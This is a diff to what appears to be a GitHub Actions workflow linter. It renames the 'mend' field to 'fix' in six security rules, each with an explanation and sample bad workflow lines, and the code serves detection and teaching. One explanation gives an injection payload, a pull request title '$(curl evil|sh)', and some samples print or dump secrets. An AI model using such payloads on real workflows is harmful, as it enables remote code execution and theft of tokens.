@@ -20,7 +20,7 @@ const untrustedCheckout = lineRule({
   category: "security",
   confidence: 0.75,
   why: "`pull_request_target` and `workflow_run` hold secrets and a writing token; anybody can open a pull request whose code then runs with them.",
-  mend: "Use `pull_request`, or split the work: build without secrets, then act on the result in a second workflow that runs no code of the pull request.",
+  fix: "Use `pull_request`, or split the work: build without secrets, then act on the result in a second workflow that runs no code of the pull request.",
   bad: [
     {
       path: WORKFLOW,
@@ -61,7 +61,7 @@ const scriptInjection = lineRule({
   category: "security",
   confidence: 0.85,
   why: "The expression is replaced before the shell starts, so that a title such as `$(curl evil|sh)` runs with the workflow's token.",
-  mend: 'Hand the value over through `env:` and use it quoted: `"$TITLE"`.',
+  fix: 'Hand the value over through `env:` and use it quoted: `"$TITLE"`.',
   bad: [
     { path: WORKFLOW, code: '    steps:\n      - run: echo "${{ github.event.pull_request.title }}"' },
     {
@@ -115,7 +115,7 @@ const actionOnBranch = lineRule({
   category: "security",
   confidence: 0.6,
   why: "Whoever can push to that branch changes what runs here, with this workflow's secrets and without a review.",
-  mend: "Pin the action to a full commit SHA, with the version in a comment.",
+  fix: "Pin the action to a full commit SHA, with the version in a comment.",
   bad: [
     { path: WORKFLOW, code: "      - uses: acme/deploy-action@main" },
     { path: WORKFLOW, code: "      - uses: someone/setup/sub@master # latest" },
@@ -145,7 +145,7 @@ const writeAll = lineRule({
   category: "security",
   confidence: 0.8,
   why: "Any step, and any action it uses, can then push code, publish packages and change releases.",
-  mend: "Grant what the job needs, such as `permissions: { contents: read }`.",
+  fix: "Grant what the job needs, such as `permissions: { contents: read }`.",
   fixes: [{ from: /write-all/, to: "read-all" }],
   bad: [
     { path: WORKFLOW, code: "permissions: write-all" },
@@ -169,7 +169,7 @@ const secretPrinted = lineRule({
   category: "security",
   confidence: 0.65,
   why: "Logs mask a secret only where it appears unchanged; any encoding of it stays readable, and all secrets at once reach every tool of the step.",
-  mend: "Pass the one secret that the step needs through `env:`, and do not print it.",
+  fix: "Pass the one secret that the step needs through `env:`, and do not print it.",
   bad: [
     { path: WORKFLOW, code: '      - run: echo "token is ${{ secrets.DEPLOY_TOKEN }}"' },
     { path: WORKFLOW, code: "        env:\n          ALL: ${{ toJSON(secrets) }}" },
@@ -196,7 +196,7 @@ const unsecureCommands = lineRule({
   category: "security",
   confidence: 0.9,
   why: "`set-env` and `add-path` let anything that prints to the log change the environment of later steps (CVE-2020-15228).",
-  mend: "Write to `$GITHUB_ENV` and `$GITHUB_PATH` instead, and remove the setting.",
+  fix: "Write to `$GITHUB_ENV` and `$GITHUB_PATH` instead, and remove the setting.",
   bad: [
     { path: WORKFLOW, code: "    env:\n      ACTIONS_ALLOW_UNSECURE_COMMANDS: true" },
     { path: WORKFLOW, code: "      ACTIONS_ALLOW_UNSECURE_COMMANDS: 'true'" },
